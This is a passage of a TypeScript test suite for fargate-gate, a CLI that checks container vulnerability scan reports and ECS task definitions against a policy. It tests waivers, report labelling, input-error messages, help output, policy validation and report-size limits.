    expect(run.stderr).toContain('the report is not shown to be a scan of an image (no ArtifactType, and no image id, image config or repository digest)');
  });

  it('a waiver names one container: the other container\'s filesystem report is still refused', async () => {
    const api = trivyVariant(NONROOT, tmp.path('api-fs.json'), { artifactName: '.', repoDigests: [], notAnImage: true });
    const router = trivyVariant(NONROOT, tmp.path('router-fs.json'), { artifactName: '.', repoDigests: [], notAnImage: true });
    const base = ['evaluate', '-t', TASKDEF, '-r', `api=${api}`, '-r', `log-router=${router}`, '-f', 'json'];
    const one = await cli([...base, '--allow-non-image-report', 'api']);
    expect(one.code).toBe(2);
    expect(one.stderr).toContain(`fargate-gate: ${router}: the report is a scan of a filesystem`);
    expect(one.stderr).toContain('--allow-non-image-report log-router');
    const both = await cli([...base, '--allow-non-image-report', 'api', '--allow-non-image-report', router]);
    expect(both.code).not.toBe(2);
    expect(json(both.stdout).subject.images.map((image) => image.container)).toEqual(['api', 'log-router']);
  });

  it('a container\'s waiver does not reach another container judged by the same report file; the file\'s name waives both', async () => {
    // Review of issue 7: waivers were kept by file, so naming "api" also waived log-router's use of the same fs report.
    const shared = trivyVariant(NONROOT, tmp.path('shared-fs.json'), { artifactName: '.', repoDigests: [], notAnImage: true });
    const base = ['evaluate', '-t', TASKDEF, '-r', `api=${shared}`, '-r', `log-router=${shared}`, '-f', 'json'];
    const one = await cli([...base, '--allow-non-image-report', 'api']);
    expect(one.code).toBe(2);
    expect(one.stdout).toBe('');
    expect(one.stderr).toContain(`fargate-gate: ${shared}: the report is a scan of a filesystem (ArtifactType "filesystem"), not of an image, so it cannot vouch for the image container "log-router" runs`);
    expect(one.stderr).toContain('or pass --allow-non-image-report log-router to judge the container by this report anyway');
    const byFile = await cli([...base, '--allow-non-image-report', shared]);
    expect(byFile.code).not.toBe(2);
    expect(json(byFile.stdout).subject.images.map((image) => image.container)).toEqual(['api', 'log-router']);
    // Each warning names the waiver the user gave, not one they did not.
    expect(byFile.stderr).toContain(`judged as the image container "api" runs (111122223333.dkr.ecr.eu-west-1.amazonaws.com/payments-api:2.3.1) anyway (--allow-non-image-report ${shared})`);
    expect(byFile.stderr).not.toContain('(--allow-non-image-report log-router)');
  });

  it('a waiver that names nothing of this run is refused, and one of an image scan is said to be needless', async () => {
    const typo = await cli(['evaluate', '-r', NONROOT, '--allow-non-image-report', 'ap', '-f', 'json']);
    expect(typo.code).toBe(2);
    expect(typo.stderr).toBe(`fargate-gate: --allow-non-image-report ap: no container or report file of this run has that name (they are ${JSON.stringify(NONROOT)})\n`);
    const needless = await cli(['evaluate', '-r', NONROOT, '--allow-non-image-report', NONROOT, '-f', 'json']);
    expect(needless.code).toBe(0);
    expect(needless.stderr).toBe(`fargate-gate: warning: --allow-non-image-report ${NONROOT}: ${NONROOT} is a scan of an image; the waiver is not needed\n`);
  });
});

describe('fargate-gate evaluate: several bare reports', () => {
  let tmp: ReturnType<typeof tempDir>;
  beforeAll(() => {
    tmp = tempDir();
  });
  afterAll(() => tmp.cleanup());

  it('labels each report by its image reference, so findings, table rows and JUnit cases can be told apart', async () => {
    const run = await cli(['evaluate', '-r', ROOT_CRITICAL, '-r', GRYPE_SIDECAR, '-f', 'json']);
    expect(run.code).toBe(1);
    const result = json(run.stdout);
    expect(keys(result)).toEqual([
      'deny rootUser 111122223333.dkr.ecr.eu-west-1.amazonaws.com/payments-api:2.3.1 rootUser',
      'deny rootUser public.ecr.aws/aws-observability/aws-for-fluent-bit:2.32.4 rootUser',
      'deny vulnerabilities 111122223333.dkr.ecr.eu-west-1.amazonaws.com/payments-api:2.3.1 CVE-2024-45491',
    ]);
    expect(result.subject.images.map((i) => i.container)).toEqual([
      '111122223333.dkr.ecr.eu-west-1.amazonaws.com/payments-api:2.3.1',
      'public.ecr.aws/aws-observability/aws-for-fluent-bit:2.32.4',
    ]);

    const junit = parseJunit((await cli(['evaluate', '-r', ROOT_CRITICAL, '-r', GRYPE_SIDECAR, '-f', 'junit'])).stdout);
    const rootCases = junit.cases.filter((c) => c.classname === 'fargate-gate.rootUser').map((c) => c.name);
    expect(rootCases).toEqual([
      '111122223333.dkr.ecr.eu-west-1.amazonaws.com/payments-api:2.3.1: rootUser (high)',
      'public.ecr.aws/aws-observability/aws-for-fluent-bit:2.32.4: rootUser (high)',
    ]);

    const table = (await cli(['evaluate', '-r', ROOT_CRITICAL, '-r', GRYPE_SIDECAR])).stdout;
    const rows = table.split('\n').filter((line) => /^DENY\s+rootUser/.test(line));
    expect(rows).toHaveLength(2);
    expect(rows.some((row) => row.includes('payments-api:2.3.1'))).toBe(true);
    expect(rows.some((row) => row.includes('aws-for-fluent-bit:2.32.4'))).toBe(true);
  });

  it('labels by file name when a report names no image, or when two reports name the same one', async () => {
    const tarA = trivyVariant(ROOT_CRITICAL, tmp.path('a.json'), { artifactName: 'build/app.tar', repoDigests: [] });
    const copy = trivyVariant(ROOT_CRITICAL, tmp.path('b.json'), {});
    const run = await cli(['evaluate', '-r', tarA, '-r', copy, '-r', ROOT_CRITICAL, '-f', 'json']);
    const containers = json(run.stdout).subject.images.map((i) => i.container);
    expect(containers).toEqual([tarA, copy, ROOT_CRITICAL]);
    expect(new Set(json(run.stdout).violations.map((v) => v.container))).toEqual(new Set(containers));
  });

  it('keeps a name given with CONTAINER=FILE and labels only the unnamed reports; one bare report stays unlabelled', async () => {
    const run = await cli(['evaluate', '-r', `api=${ROOT_CRITICAL}`, '-r', GRYPE_SIDECAR, '-f', 'json']);
    expect(json(run.stdout).subject.images.map((i) => i.container)).toEqual(['api', 'public.ecr.aws/aws-observability/aws-for-fluent-bit:2.32.4']);
    const single = await cli(['evaluate', '-r', ROOT_CRITICAL, '-f', 'json']);
    expect(json(single.stdout).subject.images[0].container).toBeUndefined();
  });
});

describe('fargate-gate evaluate: bad input is exit 2 with a message that names the file', () => {
  let tmp: ReturnType<typeof tempDir>;
  beforeAll(() => {
    tmp = tempDir();
  });
  afterAll(() => tmp.cleanup());

  async function expectInputError(argv: string[], ...fragments: (string | RegExp)[]): Promise<string> {
    const run = await cli(argv);
    expect(run.code).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr).not.toContain('unexpected error');
    for (const fragment of fragments) {
      if (typeof fragment === 'string') expect(run.stderr).toContain(fragment);
      else expect(run.stderr).toMatch(fragment);
    }
    return run.stderr;
  }

  it('a missing report file', async () => {
    await expectInputError(['evaluate', '--report', tmp.path('nope.json')], `fargate-gate: ${tmp.path('nope.json')}: cannot read scan report: no such file or directory`);
  });

  it('a directory instead of a report', async () => {
    await expectInputError(['evaluate', '--report', tmp.dir], `${tmp.dir}: cannot read scan report: is a directory`);
  });

  it('an empty report', async () => {
    writeFileSync(tmp.path('empty.json'), '\n');
    await expectInputError(['evaluate', '--report', tmp.path('empty.json')], `${tmp.path('empty.json')}: the scan report is empty; expected a Trivy or Grype JSON report`);
  });

  it('a report that is not JSON, with line and column', async () => {
    writeFileSync(tmp.path('html.json'), '<html>\n<body>502 Bad Gateway</body>\n</html>\n');
    await expectInputError(['evaluate', '--report', tmp.path('html.json')], `${tmp.path('html.json')}: the scan report is not valid JSON at line 1, column 1 (character 0): expected a JSON value\n`);
  });

  it('a truncated report', async () => {
    const text = readFileSync(ROOT_CRITICAL, 'utf8');
    writeFileSync(tmp.path('cut.json'), text.slice(0, Math.floor(text.length / 2)));
    await expectInputError(['evaluate', '--report', tmp.path('cut.json')], tmp.path('cut.json'), 'probably truncated');
  });

  it('an unsupported report format (CycloneDX SBOM)', async () => {
    await expectInputError(['evaluate', '--report', fixture('cyclonedx-sbom.json')], 'cyclonedx-sbom.json: this is a CycloneDX document', '`grype -o json`');
  });

  it('a policy with an invalid value: the file and the JSON path', async () => {
    await expectInputError(
      ['evaluate', '--report', NONROOT, '--policy', fixture('policy-bad-severity.json')],
      'policy-bad-severity.json at rules.vulnerabilities.fixable.minSeverity: expected one of',
      '"severe"',
    );
  });

  it('a missing policy file and a policy that is not JSON', async () => {
    await expectInputError(['evaluate', '--report', NONROOT, '--policy', tmp.path('policy.json')], 'policy.json: cannot read policy: no such file or directory');
    writeFileSync(tmp.path('policy.yaml'), 'schemaVersion: "1"\nname: x\n');
    await expectInputError(['evaluate', '--report', NONROOT, '--policy', tmp.path('policy.yaml')], 'policy.yaml: the policy is not valid JSON at line 1, column 1');
  });

  it('a task definition that is not JSON: position given, content never quoted (it may hold credentials)', async () => {
    writeFileSync(tmp.path('taskdef.json'), '{"containerDefinitions": [{"name": "app", "environment": [{"name": "DB_PASSWORD", "value": "hunter2-s3cret"}\n  oops]}]}');
    const stderr = await expectInputError(['evaluate', '-r', NONROOT, '-t', tmp.path('taskdef.json')], 'taskdef.json: the task definition is not valid JSON at line 2, column 3');
    expect(stderr).not.toContain('hunter2');
  });

  it('a task definition of the wrong shape', async () => {
    writeFileSync(tmp.path('array.json'), '[]');
    await expectInputError(['evaluate', '-r', NONROOT, '-t', tmp.path('array.json')], 'array.json');
  });

  it('a report named for a container the task definition does not have', async () => {
    await expectInputError(['evaluate', '-t', TASKDEF, '-r', `web=${NONROOT}`], 'no container named "web"', '"api", "log-router"');
  });

  it('two reports for one container, with and without a task definition', async () => {
    await expectInputError(['evaluate', '-t', TASKDEF, '-r', `api=${NONROOT}`, `api=${ROOT_CRITICAL}`], 'two reports given for container "api"', NONROOT, ROOT_CRITICAL);
    // Unnamed, but both match the api image.
    await expectInputError(['evaluate', '-t', TASKDEF, '-r', NONROOT, ROOT_CRITICAL], 'two reports given for container "api"');
    await expectInputError(['evaluate', '-r', `api=${NONROOT}`, `api=${ROOT_CRITICAL}`], 'two reports given for container "api"');
  });

  it('a report whose image matches no container of a multi-container task definition', async () => {
    await expectInputError(['evaluate', '-t', TASKDEF, '-r', UNFIXED_CRITICAL], 'cannot tell which container this report is for', `--report CONTAINER=${UNFIXED_CRITICAL}`);
  });

  it('--overrides without --task-definition', async () => {
    await expectInputError(['evaluate', '-r', NONROOT, '--overrides', fixture('overrides-plaintext-key.json')], '--overrides', 'needs --task-definition');
  });

  it('overrides for a container the task definition does not have', async () => {
    await expectInputError(['evaluate', '-t', TASKDEF, '-r', `api=${NONROOT}`, '--overrides', fixture('overrides-unknown-container.json')], 'overrides-unknown-container.json', '"web"');
  });

  it('CONTAINER= without a file', async () => {
    await expectInputError(['evaluate', '-r', 'api='], 'no file after "api="');
  });

  it('an unwritable --output', async () => {
    await expectInputError(['evaluate', '-r', NONROOT, '-o', tmp.path('missing-dir/out.json')], 'cannot write the result (--output): no such file or directory');
    mkdirSync(tmp.path('a-dir'), { recursive: true });
    await expectInputError(['evaluate', '-r', NONROOT, '-o', tmp.path('a-dir')], 'cannot write the result (--output): is a directory');
    expect(existsSync(tmp.path('missing-dir'))).toBe(false);
  });

  it('an invalid --now', async () => {
    await expectInputError(['evaluate', '-r', NONROOT, '--now', '2025-13-45'], '--now: expected an ISO 8601 date');
  });

  it('usage errors: unknown format, neither --report nor --task-definition, unknown command or option', async () => {
    await expectInputError(['evaluate', '-r', NONROOT, '--format', 'sarif'], "argument 'sarif' is invalid", 'table, json, junit, markdown');
    await expectInputError(['evaluate'], 'nothing to judge: give --report FILE, --task-definition FILE, or both');
    await expectInputError(['evalute', '-r', NONROOT], "unknown command 'evalute'");
    await expectInputError(['evaluate', '-r', NONROOT, '--polcy', DEFAULT_POLICY], "unknown option '--polcy'");
  });
});

describe('fargate-gate --help and --version', () => {
  it.each([
    [['--help'], 'Usage: fargate-gate [options] [command]', 'evaluate'],
    [['evaluate', '--help'], 'Usage: fargate-gate evaluate [options]', '--task-definition <FILE>'],
    [['help', 'evaluate'], 'Usage: fargate-gate evaluate [options]', 'Exit status: 0 pass or warn'],
    [['policy', '--help'], 'Usage: fargate-gate policy [options] [command]', 'validate <FILE>'],
    [['policy', 'validate', '--help'], 'Usage: fargate-gate policy validate [options] <FILE>', 'JSON path'],
    [['policy', 'schema', '--help'], 'Usage: fargate-gate policy schema [options]', 'JSON Schema'],
  ])('%j prints usage on stdout and exits 0', async (argv, usage, detail) => {
    const run = await cli(argv);
    expect(run.code).toBe(0);
    expect(run.stdout).toContain(usage);
    expect(run.stdout).toContain(detail);
    expect(run.stderr).toBe('');
  });

  it('evaluate --help: its prose paragraphs are filled, no line broken off mid-paragraph', async () => {
    const run = await cli(['evaluate', '--help']);
    const prose = run.stdout.slice(run.stdout.indexOf('Exit status:'), run.stdout.indexOf('Examples:'));
    const paragraphs = prose.trim().split(/\n\n/);
    expect(paragraphs.length).toBeGreaterThan(3);
    // Every line but a paragraph's last runs to the fill width (about 110 columns); a short one is a stray line break.
    const short = paragraphs.flatMap((paragraph) => paragraph.split('\n').slice(0, -1)).filter((line) => line.length < 90);
    expect(short).toEqual([]);
  });

  it('--version prints the package version', async () => {
    const run = await cli(['--version']);
    const pkg = JSON.parse(readFileSync(join(REPO_ROOT, 'package.json'), 'utf8')) as { version: string };
    expect(run).toEqual({ code: 0, stdout: `${pkg.version}\n`, stderr: '' });
  });
});

describe('fargate-gate policy validate', () => {
  let tmp: ReturnType<typeof tempDir>;
  beforeAll(() => {
    tmp = tempDir();
  });
  afterAll(() => tmp.cleanup());

  it('prints the name and hash of a valid policy; the hash ignores formatting and key order but not content', async () => {
    const run = await cli(['policy', 'validate', DEFAULT_POLICY]);
    expect(run.code).toBe(0);
    const match = /: valid policy "fargate-gate\/default" \(schemaVersion 1, sha256 ([0-9a-f]{64})\)\n$/.exec(run.stdout);
    expect(match).not.toBeNull();

    const document = JSON.parse(readFileSync(DEFAULT_POLICY, 'utf8')) as Record<string, unknown>;
    const reordered = Object.fromEntries(Object.entries(document).reverse());
    writeFileSync(tmp.path('reordered.json'), JSON.stringify(reordered));
    const same = await cli(['policy', 'validate', tmp.path('reordered.json')]);
    expect(same.stdout).toContain(`sha256 ${match![1]}`);

    writeFileSync(tmp.path('changed.json'), JSON.stringify({ ...document, maxScanAge: '3d' }));
    const changed = await cli(['policy', 'validate', tmp.path('changed.json')]);
    expect(changed.code).toBe(0);
    expect(changed.stdout).not.toContain(match![1]);
  });

  it('validates every shipped policy', async () => {
    for (const name of ['default.json', 'audit.json', 'strict.json']) {
      const run = await cli(['policy', 'validate', join(REPO_ROOT, 'policies', name)]);
      expect([name, run.code, run.stderr]).toEqual([name, 0, '']);
    }
  });

  it('exits 2 with the JSON path of the problem', async () => {
    const run = await cli(['policy', 'validate', fixture('policy-bad-severity.json')]);
    expect(run.code).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr).toContain('policy-bad-severity.json at rules.vulnerabilities.fixable.minSeverity');
  });

  it('lists every problem with its path when there are several', async () => {
    writeFileSync(
      tmp.path('two.json'),
      JSON.stringify({ schemaVersion: '1', name: 'x', mode: 'enforce', onScanError: 'maybe', rules: { rootUser: { action: 'block' } } }),
    );
    const run = await cli(['policy', 'validate', tmp.path('two.json')]);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('invalid policy (2 problems)');
    expect(run.stderr).toContain('onScanError');
    expect(run.stderr).toContain('rules.rootUser.action');
  });

  it('exits 2 for a missing file', async () => {
    const run = await cli(['policy', 'validate', tmp.path('none.json')]);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('none.json: cannot read policy: no such file or directory');
  });
});

describe('fargate-gate policy schema', () => {
  it('prints the JSON Schema checked in as policies/policy.schema.json', async () => {
    const run = await cli(['policy', 'schema']);
    expect(run.code).toBe(0);
    const checkedIn = JSON.parse(readFileSync(join(REPO_ROOT, 'policies/policy.schema.json'), 'utf8'));
    expect(JSON.parse(run.stdout)).toEqual(checkedIn);
  });
});

describe('evaluate --max-report-size (issue 7: one report-size limit for CI and the deployed gate)', () => {
  it('refuses a report over the default 64 MiB limit by its size, before reading it', async () => {
    // A sparse file: 64 MiB and one byte on paper, nothing on disk. Old code read it all and failed on its JSON.
    const temp = tempDir();
    const path = temp.path('huge.json');
    writeFileSync(path, '');
    truncateSync(path, DEFAULT_MAX_REPORT_BYTES + 1);
    const run = await cli(['evaluate', '--report', path]);
    temp.cleanup();
    expect(run.code).toBe(2);
    expect(run.stderr).toContain(`${path}: the scan report is 64.0 MiB (${DEFAULT_MAX_REPORT_BYTES + 1} bytes), more than the 64 MiB (${DEFAULT_MAX_REPORT_BYTES}-byte) limit`);
    expect(run.stderr).toContain('Raise the limit with --max-report-size (e.g. --max-report-size 128MiB)');
  });

  it('applies a lower or higher limit given as a size', async () => {
    const report = fixture('trivy-busybox-1.36-nonroot.json');
    const size = statSync(report).size;
    const refused = await cli(['evaluate', '--report', report, '--max-report-size', String(size - 1)], { now: FIXTURE_NOW });
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain(`the scan report is`);
    expect(refused.stderr).toContain(`(${size} bytes), more than the`);
    const accepted = await cli(['evaluate', '--report', report, '--max-report-size', String(size)], { now: FIXTURE_NOW });
    expect(accepted.stderr).not.toContain('more than the');
    expect(accepted.code).toBeLessThan(2);
  });

  it('says what a bad size is', async () => {
    const run = await cli(['evaluate', '--report', fixture('trivy-busybox-1.36-nonroot.json'), '--max-report-size', 'huge']);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('--max-report-size: expected a size such as "128MiB"');
  });
});
